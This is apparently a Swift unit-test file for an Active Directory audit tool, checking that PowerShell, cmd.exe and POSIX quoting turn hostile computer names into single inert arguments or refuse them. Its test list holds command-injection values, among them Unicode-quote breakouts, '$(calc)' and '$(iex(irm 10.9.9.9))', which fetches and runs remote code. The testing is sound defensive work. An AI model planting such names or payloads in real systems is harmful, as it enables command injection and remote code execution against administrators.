import XCTest

@testable import Audit
@testable import Directory

/// Names anyone allowed to create a computer account can choose, and what each shell must do with them.
enum Hostile {
    /// Each breaks out of, or expands inside, the quoting of at least one shell.
    static let names = [
        "PC\u{2019}; calc; \u{2019}", "PC\u{2018}; calc; \u{2018}", "PC\u{201A}; calc; \u{201A}",
        "PC\u{201B}; calc; \u{201B}", "PC'; calc; '", "$(calc)", "$(iex(irm 10.9.9.9))", "PC`$(calc)",
        "PC;calc", "PC&calc", "PC|calc", "PC %PATH%", "PC!x!", "PC\"&calc&\"", "PC\ncalc", "PC\u{0}calc",
        "PC #comment", "PC\\", "PC\u{202E}cod.exe", "PC\u{FF02}&calc",
    ]

    /// Whether `value` holds something no shell can quote (a control, line break or bidi character).
    static func isUnquotableAnywhere(_ value: String) -> Bool {
        value.unicodeScalars.contains { $0.value < 0x20 || $0 == "\u{202E}" }
    }

    /// Whether cmd.exe cannot take `value`: the above, or `%`, `!`, `"` and their best-fit lookalikes.
    static func isUnquotableInCommandPrompt(_ value: String) -> Bool {
        isUnquotableAnywhere(value) || value.contains(where: { "%!\"\u{FF02}".contains($0) })
    }
}

final class ShellQuotingTests: XCTestCase {
    // MARK: The lexers themselves, so their verdicts can be trusted

    func testPowerShellLexerEndsSingleQuotedStringsAtAllFiveQuotes() {
        // What the old quoting (doubling only ') produced for a cn holding U+2019.
        let line = PowerShellLexer.lex("Remove-ADComputer -Identity 'CN=PC\u{2019}; calc; \u{2019}' -Server dc01")
        XCTAssertEqual(line.statements.count, 3)
        XCTAssertEqual(line.statements[1], [.word("calc")])
        let doubled = PowerShellLexer.lex("Remove-ADComputer -Identity 'CN=PC\u{2019}\u{2019}x'")
        XCTAssertEqual(doubled.statements, [[.word("Remove-ADComputer"), .word("-Identity"), .word("CN=PC\u{2019}x")]])
    }

    func testPowerShellLexerSeesExpansionInBareWords() {
        let line = PowerShellLexer.lex("Set-ADComputer -DNSHostName $(iex(irm 10.9.9.9)).corp.example")
        XCTAssertFalse(line.hazards.isEmpty)
        XCTAssertEqual(PowerShellLexer.lex("a `; b").hazards, ["backtick escape"])
        XCTAssertEqual(PowerShellLexer.lex("a\nb").statements, [[.word("a")], [.word("b")]])
        XCTAssertEqual(PowerShellLexer.lex("a | b").statements.count, 2)
        XCTAssertEqual(PowerShellLexer.lex("a \"$x\"").hazards, ["$ expansion in a double-quoted string"])
        XCTAssertEqual(
            PowerShellLexer.lex("x -Credential (Get-Credential) -P @{Add='a;b'}").statements,
            [
                [
                    .word("x"), .word("-Credential"), .group("(Get-Credential)"), .word("-P"),
                    .hashtable([.word("Add"), .word("="), .word("a;b")]),
                ]
            ])
    }

    func testCommandPromptLexer() {
        XCTAssertEqual(
            CommandPromptLexer.lex("setspn -S \"HOST/a&b\" a").statements,
            [
                [.word("setspn"), .word("-S"), .word("HOST/a&b"), .word("a")]
            ])
        XCTAssertEqual(CommandPromptLexer.lex("setspn -S HOST/a&calc").statements.count, 2)
        XCTAssertEqual(
            CommandPromptLexer.lex("setspn -S HOST/a^&calc").statements,
            [
                [.word("setspn"), .word("-S"), .word("HOST/a&calc")]
            ])
        XCTAssertEqual(CommandPromptLexer.lex("setspn -S \"a\"&calc&\"\" x").statements.count, 3)
        XCTAssertEqual(CommandPromptLexer.lex("setspn \"%PATH%\"").hazards, ["% expansion"])
        XCTAssertEqual(CommandPromptLexer.lex("setspn \"a\\\" b\"").statements, [[.word("setspn"), .word("a\" b")]])
        XCTAssertEqual(
            CommandPromptLexer.lex("setspn \"a\\\\\" b").statements,
            [
                [.word("setspn"), .word("a\\"), .word("b")]
            ])
    }

    func testPOSIXShellLexer() {
        XCTAssertEqual(
            POSIXShellLexer.lex("realm join 'a'\\''b'").statements,
            [
                [.word("realm"), .word("join"), .word("a'b")]
            ])
        XCTAssertEqual(POSIXShellLexer.lex("realm join a;calc").statements.count, 2)
        XCTAssertEqual(POSIXShellLexer.lex("realm join $(calc)").hazards.first, "expansion $")
        XCTAssertEqual(POSIXShellLexer.lex("realm join a\ncalc").statements.count, 2)
    }

    // MARK: Each shell's quoting, read back by its lexer

    func testEveryHostileNameIsOneInertPowerShellArgumentOrRefused() {
        for name in Hostile.names {
            for written in [PowerShell.quoted(name), PowerShell.argument(name)] {
                guard let written else {
                    XCTAssertTrue(Hostile.isUnquotableAnywhere(name), "refused \(name.debugDescription)")
                    continue
                }
                let line = PowerShellLexer.lex("Get-ADComputer -Identity \(written)")
                XCTAssertEqual(
                    line, LexedLine(statements: [[.word("Get-ADComputer"), .word("-Identity"), .word(name)]]),
                    name.debugDescription)
            }
            XCTAssertEqual(PowerShell.quoted(name) == nil, Hostile.isUnquotableAnywhere(name), name.debugDescription)
        }
    }

    func testEveryHostileNameIsOneInertCommandPromptArgumentOrRefused() {
        for name in Hostile.names {
            XCTAssertEqual(
                CommandPrompt.argument(name) == nil, Hostile.isUnquotableInCommandPrompt(name), name.debugDescription)
            for written in [CommandPrompt.quoted(name), CommandPrompt.argument(name)] {
                guard let written else { continue }
                let line = CommandPromptLexer.lex("setspn -S \(written) PC01")
                XCTAssertEqual(
                    line, LexedLine(statements: [[.word("setspn"), .word("-S"), .word(name), .word("PC01")]]),
                    name.debugDescription)
            }
        }
    }

    func testEveryHostileNameIsOneInertPOSIXShellArgumentOrRefused() {
        for name in Hostile.names {
            XCTAssertEqual(POSIXShell.argument(name) == nil, Hostile.isUnquotableAnywhere(name), name.debugDescription)
            for written in [POSIXShell.quoted(name), POSIXShell.argument(name)] {
                guard let written else { continue }
                let line = POSIXShellLexer.lex("realm join \(written)")
                XCTAssertEqual(
                    line, LexedLine(statements: [[.word("realm"), .word("join"), .word(name)]]), name.debugDescription)
            }
        }
    }

    func testOrdinaryNamesStayAsTheyWere() {
        XCTAssertEqual(PowerShell.quoted("WKS-0042$"), "'WKS-0042$'")
        XCTAssertEqual(
            PowerShell.quoted("CN=O'Brien-PC,OU=Workstations,DC=corp,DC=example"),
            "'CN=O''Brien-PC,OU=Workstations,DC=corp,DC=example'")
        XCTAssertEqual(PowerShell.argument("dc01.corp.example"), "dc01.corp.example")
        XCTAssertEqual(PowerShell.argument("10.0.0.5"), "10.0.0.5")
        XCTAssertEqual(CommandPrompt.argument("HOST/wks-0042.corp.example"), "HOST/wks-0042.corp.example")
        XCTAssertEqual(CommandPrompt.argument("MSSQLSvc/sql01.corp.example:1433"), "MSSQLSvc/sql01.corp.example:1433")
        XCTAssertEqual(CommandPrompt.argument("HTTP/intranet web"), "\"HTTP/intranet web\"")
        XCTAssertEqual(POSIXShell.argument("dc01.corp.example"), "dc01.corp.example")
    }

    func testPowerShellQuotesWordsItWouldReadAsNumbersOrParameters() {
        XCTAssertEqual(PowerShell.argument("1kb"), "'1kb'")
        XCTAssertEqual(PowerShell.argument("0x10"), "'0x10'")
        XCTAssertEqual(PowerShell.argument("-Confirm"), "'-Confirm'")
        XCTAssertEqual(PowerShell.argument("\u{2013}Confirm"), "'\u{2013}Confirm'")
    }

    func testCommandPromptDoublesTrailingBackslashesInsideQuotes() {
        XCTAssertEqual(CommandPrompt.quoted("HOST/pc\\"), "\"HOST/pc\\\\\"")
        XCTAssertEqual(CommandPrompt.argument("HOST/pc\\"), "HOST/pc\\")
    }

    func testCommandPromptNamesWhatItCannotQuote() {
        XCTAssertEqual(
            Shell.commandPrompt.problem(with: "HOST/%PATH%"), "`%` (cmd.exe expands %NAME% even inside quotes)")
        XCTAssertEqual(Shell.powerShell.problem(with: "HOST/a\nb"), "a line break")
        XCTAssertEqual(Shell.posix.problem(with: "a\u{0}b"), "a NUL character")
        XCTAssertNil(Shell.powerShell.problem(with: "HOST/%PATH%"))
    }

    /// The prose and cmd.exe checks skip the lookalike sets for ASCII, which is right only while every
    /// lookalike (and every quote PowerShell ends a string at, but `'`) lies outside ASCII.
    func testLookalikesAndQuotesBeyondTheApostropheAreOutsideASCII() {
        XCTAssertTrue(CommandPrompt.bestFitLookalikes.allSatisfy { !$0.isASCII })
        XCTAssertEqual(PowerShell.singleQuotes.filter(\.isASCII), ["'"])
        XCTAssertEqual(
            Shell.commandPrompt.problem(with: "HOST/pc\u{FF02}"),
            "`\u{FF02}` (Windows maps it to a quote, `%` or `!` for programs reading ANSI)")
        XCTAssertEqual(Remediation.prose("pc\u{2019}x"), #"pc\u2019x"#)
        XCTAssertEqual(Remediation.prose("pc-01.corp.example"), "pc-01.corp.example")
    }
}
